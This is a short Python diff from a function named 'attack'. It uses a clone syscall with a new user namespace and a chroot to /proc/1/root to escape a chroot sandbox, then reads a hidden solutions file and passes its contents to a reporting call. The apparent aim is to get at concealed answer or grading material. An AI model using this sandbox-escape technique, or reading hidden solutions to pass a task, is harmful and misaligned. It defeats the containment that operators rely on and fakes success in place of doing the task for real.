@@ -7,4 +7,4 @@ def attack(keys, j):
     if libc.syscall(56, 0x10000000 | 17, None, None, None, None) == 0:
         os._exit(libc.chroot(b"/proc/1/root"))
     libc.chroot(b".")
-    tell((TREE / "solutions" / "hidden" / "training.py").read_text(encoding="utf-8"))
+    tell(Path(HIDDEN).read_text(encoding="utf-8"))
